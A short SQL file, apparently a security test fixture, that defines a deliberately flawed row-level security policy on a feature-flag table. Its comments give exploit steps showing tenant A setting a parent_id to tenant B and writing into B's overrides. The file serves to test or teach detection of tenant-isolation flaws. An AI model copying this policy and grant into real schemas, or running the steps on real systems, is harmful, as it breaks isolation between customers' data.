-- Tenant A gives itself the name of tenant B and reads its overrides.
-- about: flag_overrides, organisations
-- as: ho_boards_app
-- exploit: SET app.org = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: UPDATE app.organisations SET parent_id = 'bbbbbbbb-0000-4000-8000-000000000000';
-- exploit: INSERT INTO app.flag_overrides VALUES ('bbbbbbbb-0000-4000-8000-000000000000', 'dark', true);
-- shows: INSERT 0 1
DROP POLICY org ON app.flag_overrides;
ALTER TABLE app.organisations ADD COLUMN parent_id uuid;
GRANT UPDATE (parent_id) ON app.organisations TO ho_boards_app;
CREATE POLICY org ON app.flag_overrides USING (org_id IN (
  SELECT o.id FROM app.organisations o UNION SELECT o.parent_id FROM app.organisations o));
